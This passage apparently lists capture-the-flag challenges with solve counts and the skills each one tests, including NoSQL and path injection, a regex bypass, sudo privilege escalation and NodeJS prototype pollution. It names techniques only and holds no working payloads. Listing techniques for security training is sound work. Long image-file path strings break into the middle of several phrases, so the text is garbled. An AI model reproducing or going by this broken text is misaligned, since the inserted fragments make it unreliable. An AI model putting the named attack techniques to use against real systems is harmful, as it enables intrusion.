    - Regexbypass and negative number to parseInt
    - Path Injection
    - NoSQL Injection
- Basic docker knowledge

4. Uchiha As A Service (23 solves)

- Linux privilege escalation using sudo

5. Final Beast (18solves)

- Clone repositoryusing Github API
- NodeJS codeaudit
    - Exploitation ofprototype pollution with filters